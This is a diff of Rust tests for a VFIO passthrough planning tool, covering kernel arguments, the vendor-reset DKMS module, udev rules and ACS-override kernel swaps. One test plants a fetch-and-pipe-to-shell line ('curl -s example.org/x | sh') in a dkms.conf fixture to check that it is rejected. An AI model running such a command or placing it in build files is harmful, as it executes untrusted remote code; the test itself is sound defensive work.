@@ -2,6 +2,24 @@ use super::*;
 use crate::config::{Config, Overrides};
 use crate::kargs::{Karg, KernelArg};
 
+/// gnif/vendor-reset's dkms.conf, as upstream has it.
+const UPSTREAM_DKMS_CONF: &str = "PACKAGE_NAME=\"vendor-reset\"\nPACKAGE_VERSION=\"0.1.1\"\n\
+    BUILT_MODULE_NAME[0]=\"${PACKAGE_NAME}\"\nMAKE[0]=\"make KDIR=${kernel_source_dir}\"\n\
+    CLEAN=\"make KDIR=${kernel_source_dir} clean\"\nDEST_MODULE_LOCATION[0]=\"/kernel/drivers/misc\"\n\
+    AUTOINSTALL=\"yes\"\n";
+
+/// A directory holding upstream vendor-reset's dkms.conf, as a checkout of it would.
+fn vendor_reset_tree() -> (tempfile::TempDir, Utf8PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    let path = Utf8PathBuf::from_path_buf(dir.path().to_owned()).unwrap();
+    std::fs::write(path.join("dkms.conf"), UPSTREAM_DKMS_CONF).unwrap();
+    (dir, path)
+}
+
+fn config_with_path(path: &Utf8Path) -> Config {
+    Config::from_toml(&format!("[vendor-reset]\npath = \"{path}\"\n"), "t.toml").unwrap()
+}
+
 fn plan(cpu: CpuChoice, gpus: &[GpuVendor], ids: &[&str]) -> Plan {
     plan_with(Config::default(), cpu, gpus, ids).unwrap()
 }
@@ -17,7 +35,7 @@ fn plan_with(config: Config, cpu: CpuChoice, gpus: &[GpuVendor], ids: &[&str]) -
 }
 
 fn omitted(plan: &Plan) -> Vec<&str> {
-    plan.omitted_kargs.iter().map(|o| o.karg.as_str()).collect()
+    plan.omitted_kargs.iter().map(|o| o.karg).collect()
 }
 
 /// The guide's AMD list, minus what today's kernels do not take: `amd_iommu=on` is no option
@@ -131,7 +149,7 @@ fn amd_switches_opt_ins_and_opt_outs() {
     let reasons: Vec<(&str, &str)> = plan
         .omitted_kargs
         .iter()
-        .map(|o| (o.karg.as_str(), o.reason.as_str()))
+        .map(|o| (o.karg, o.reason.as_str()))
         .collect();
     assert!(
         reasons.contains(&("kvm_amd.avic=1", "cpu.avic = false")),
@@ -316,7 +334,9 @@ fn auto_cpu_reads_the_host_and_fails_clearly_without_one() {
 
 #[test]
 fn device_ids_and_addresses_live_only_in_the_host_layer() {
-    let config = Config::from_toml("[vfio]\naddresses = [\"0b:00.0\"]\n", "t.toml").unwrap();
+    let (_dir, tree) = vendor_reset_tree();
+    let mut config = config_with_path(&tree);
+    config.vfio.addresses = vec!["0000:0b:00.0".parse().unwrap()];
     let plan = plan_with(
         config,
         CpuChoice::Amd,
@@ -382,7 +402,13 @@ fn addresses_are_planned_in_their_own_argument_beside_the_ids() {
     .unwrap();
     let initramfs =
         |plan: &Plan| -> Vec<PlannedFile> { plan.files_in(Layer::Initramfs).cloned().collect() };
-    assert_eq!(initramfs(&plan), initramfs(&without));
+    let contents = |plan: &Plan| -> Vec<(String, String)> {
+        initramfs(plan)
+            .into_iter()
+            .map(|f| (f.path.to_string(), f.content))
+            .collect()
+    };
+    assert_eq!(contents(&plan), contents(&without));
     assert!(
         !without
             .kargs
@@ -432,7 +458,6 @@ fn the_hook_reads_the_planned_argument() {
 fn vendor_reset_auto_follows_the_table_and_can_be_forced() {
     let polaris = plan(CpuChoice::Amd, &[GpuVendor::Amd], &["1002:67df"]);
     assert_eq!(polaris.modules.len(), 1);
-    assert_eq!(polaris.modules[0].kernel_modules, ["vendor-reset"]);
     assert!(polaris.warnings.is_empty(), "{:?}", polaris.warnings);
     let mut config = Config::default();
     config.vendor_reset.enabled = crate::config::Switch::Off;
@@ -485,6 +510,46 @@ fn acs_override_karg_only_with_the_kernel() {
 }
 
 #[test]
+fn the_kernel_swap_is_conditional_and_removes_only_kernel_packages() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = camino::Utf8Path::from_path(dir.path()).unwrap();
+    std::fs::write(path.join("linux-image-6.1.0-50-cloud-amd64.deb"), b"deb").unwrap();
+    let text = format!("[acs-override]\nenabled = true\npackages = \"{path}\"\n");
+    let config = Config::from_toml(&text, "t.toml").unwrap();
+    let kernel = plan_with(config, CpuChoice::Amd, &[], &[])
+        .unwrap()
+        .kernel
+        .unwrap();
+    // A base kernel that has the patch's setup function already takes the karg: the build swaps nothing.
+    assert_eq!(kernel.unless_symbol, "pcie_acs_override_setup");
+    let rpm = &kernel.removes.rpm;
+    for name in [
+        "kernel",
+        "kernel-core",
+        "kernel-modules-extra",
+        "kernel-devel-matched",
+        "kernel-uki-virt",
+    ] {
+        assert!(rpm.iter().any(|n| n == name), "{name} missing from {rpm:?}");
+        let acs = name.replacen("kernel", "kernel-acs", 1);
+        assert!(rpm.contains(&acs), "{acs} missing from {rpm:?}");
+    }
+    // They share the kernel's version string on CentOS/RHEL, but are no part of the kernel.
+    for other in [
+        "kernel-tools",
+        "kernel-tools-libs",
+        "kernel-headers",
+        "kernel-acs-tools",
+    ] {
+        assert!(!rpm.iter().any(|n| n == other), "{other} would be removed");
+    }
+    assert_eq!(
+        kernel.removes.deb,
+        ["linux-image-{kver}", "linux-headers-{kver}"]
+    );
+}
+
+#[test]
 fn a_gpu_vendor_given_twice_plans_its_drivers_once() {
     let plan = plan(
         CpuChoice::Intel,
@@ -497,4 +562,164 @@ fn a_gpu_vendor_given_twice_plans_its_drivers_once() {
         plan.image_mode_warnings().is_empty(),
         "an explicit vendor needs no warning"
     );
+}
+
+#[test]
+fn a_git_source_is_planned_by_its_commit_until_it_is_fetched() {
+    let ids = ["1002:67df", "1002:aaf0"];
+    let unfetched = plan(CpuChoice::Amd, &[GpuVendor::Amd], &ids);
+    let module = &unfetched.modules[0];
+    assert!(module.dkms_conf().is_none());
+    assert_eq!(
+        module.origin(),
+        format!(
+            "dkms.conf at {} of {}",
+            crate::config::sources::VENDOR_RESET_COMMIT,
+            crate::config::sources::VENDOR_RESET_GIT
+        )
+    );
+    // Without its module names, neither the modules-load.d file nor the udev rule can be written yet.
+    assert!(
+        !unfetched
+            .files
+            .iter()
+            .any(|f| f.path == MODULES_LOAD_CONF || f.path == UDEV_RULE)
+    );
+    let json = serde_json::to_value(module).unwrap();
+    assert_eq!(json["name"], serde_json::Value::Null);
+    assert_eq!(json["kernel_modules"], serde_json::Value::Null);
+    assert_eq!(json["source"]["kind"], "git");
+    assert!(
+        json["from"].as_str().unwrap().starts_with("dkms.conf at "),
+        "{json}"
+    );
+
+    // Fetched, the checkout is read by the same code as a local source.
+    let (_dir, tree) = vendor_reset_tree();
+    let mut checkouts = Checkouts::default();
+    checkouts.add(
+        crate::config::sources::VENDOR_RESET_GIT,
+        crate::config::sources::VENDOR_RESET_COMMIT,
+        tree.clone(),
+    );
+    let overrides = Overrides {
+        cpu: Some(CpuChoice::Amd),
+        vfio_ids: Some(ids.iter().map(|id| id.parse().unwrap()).collect()),
+        ..Default::default()
+    };
+    let config = Config::default().with_overrides(&overrides);
+    let fetched = Plan::resolve_fetched(&config, &Target::Image, &checkouts).unwrap();
+    let conf = fetched.modules[0].dkms_conf().unwrap();
+    assert_eq!(
+        (conf.name.as_str(), conf.version.as_str()),
+        ("vendor-reset", "0.1.1")
+    );
+    let load = fetched
+        .files
+        .iter()
+        .find(|f| f.path == MODULES_LOAD_CONF)
+        .unwrap();
+    assert!(
+        load.content.ends_with("\nvendor-reset\n"),
+        "{}",
+        load.content
+    );
+    let json = serde_json::to_value(&fetched.modules[0]).unwrap();
+    assert_eq!(json["name"], "vendor-reset");
+    assert_eq!(json["kernel_modules"][0]["name"], "vendor-reset");
+    assert_eq!(
+        json["make"],
+        serde_json::json!([
+            "make",
+            "-j${parallel_jobs}",
+            "KERNELRELEASE=${kernelver}",
+            "KDIR=${kernel_source_dir}"
+        ])
+    );
+}
+
+#[test]
+fn the_udev_rule_loads_the_module_before_it_sets_the_reset_method() {
+    let (_dir, tree) = vendor_reset_tree();
+    let plan = plan_with(
+        config_with_path(&tree),
+        CpuChoice::Amd,
+        &[GpuVendor::Amd],
+        &["1002:67df", "1002:aaf0"],
+    )
+    .unwrap();
+    let rule = &plan
+        .files
+        .iter()
+        .find(|f| f.path == UDEV_RULE)
+        .unwrap()
+        .content;
+    let lines: Vec<&str> = rule.lines().filter(|l| !l.starts_with('#')).collect();
+    assert_eq!(
+        lines,
+        [
+            "ACTION==\"add\", SUBSYSTEM==\"pci\", ATTR{vendor}==\"0x1002\", ATTR{device}==\"0x67df\", \
+          PROGRAM=\"/sbin/modprobe -a vendor-reset\", ATTR{reset_method}=\"device_specific\""
+        ]
+    );
+}
+
+#[test]
+fn a_local_source_whose_dkms_conf_needs_a_shell_is_bad_input_naming_the_line() {
+    let (_dir, tree) = vendor_reset_tree();
+    std::fs::write(
+        tree.join("dkms.conf"),
+        format!("{UPSTREAM_DKMS_CONF}PRE_BUILD=\"$(curl -s example.org/x | sh)\"\n"),
+    )
+    .unwrap();
+    let err = plan_with(config_with_path(&tree), CpuChoice::Amd, &[], &["1002:67df"]).unwrap_err();
+    let input = err.downcast_ref::<InputError>().expect("input error");
+    assert_eq!(input.field, "vendor-reset.path");
+    assert!(
+        input.message.starts_with(&format!(
+            "dkms.conf in {tree}, line 8: $(...) is command substitution"
+        )),
+        "{input}"
+    );
+}
+
+/// Bazzite's kernel carries the ACS override patch: on such a host only the argument is planned.
+#[test]
+fn a_host_kernel_with_the_acs_patch_is_not_replaced() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = Root::new(camino::Utf8Path::from_path(dir.path()).unwrap());
+    std::fs::create_dir_all(root.join("/proc")).unwrap();
+    std::fs::write(
+        root.join("/proc/kallsyms"),
+        "ffffffffb1a2b3c4 T pci_enable_device\nffffffffb1a2b3d0 t pcie_acs_override_setup\n",
+    )
+    .unwrap();
+    let packages = tempfile::tempdir().unwrap();
+    let path = camino::Utf8Path::from_path(packages.path()).unwrap();
+    std::fs::write(
+        path.join("kernel-core-6.11.4-301.acs.fc41.x86_64.rpm"),
+        b"rpm",
+    )
+    .unwrap();
+    let mut config = Config::from_toml(
+        &format!("[acs-override]\nenabled = true\npackages = \"{path}\"\n"),
+        "t.toml",
+    )
+    .unwrap();
+    config.cpu.vendor = CpuChoice::Amd;
+    let plan = Plan::resolve(&config, &Target::Host(root)).unwrap();
+    assert!(plan.kernel.is_none());
+    assert!(
+        plan.kargs
+            .iter()
+            .any(|k| k.is(&crate::kargs::params::PCIE_ACS_OVERRIDE))
+    );
+    assert!(
+        plan.notes[0].contains("already carries the ACS override patch"),
+        "{:?}",
+        plan.notes
+    );
+    // An image plan cannot see the base's kernel: its build checks System.map.
+    let image = Plan::resolve(&config, &Target::Image).unwrap();
+    assert!(image.kernel.is_some() && image.notes.is_empty());
 }
